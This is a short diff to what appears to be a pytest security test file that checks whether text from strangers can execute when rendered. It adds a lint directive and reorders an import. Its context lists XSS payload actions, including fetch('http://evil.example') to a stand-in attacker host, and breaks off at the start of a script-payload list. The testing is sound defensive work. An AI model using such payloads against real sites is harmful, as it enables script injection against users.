@@ -1,3 +1,4 @@
+# ruff: noqa: E501
 """What strangers write does nothing: five hundred payloads made from patterns, in every field that comes from others."""
 
 import itertools
@@ -5,12 +6,13 @@ import re
 from html.parser import HTMLParser
 
 import pytest
+from stage import browser, watched
+
 from implicast.peer.contract import CastId
 from implicast.web.drafts import plain_name
 from implicast.web.letter import MARK, File, Letter, Rule, packed, unpacked
 from implicast.web.letters import cast_text
 from implicast.web.markdown import rendered
-from stage import browser, watched
 
 DO = ["alert(1)", "window.ran=1", "fetch('http://evil.example')", "document.title='ran'"]
 SCRIPT = [
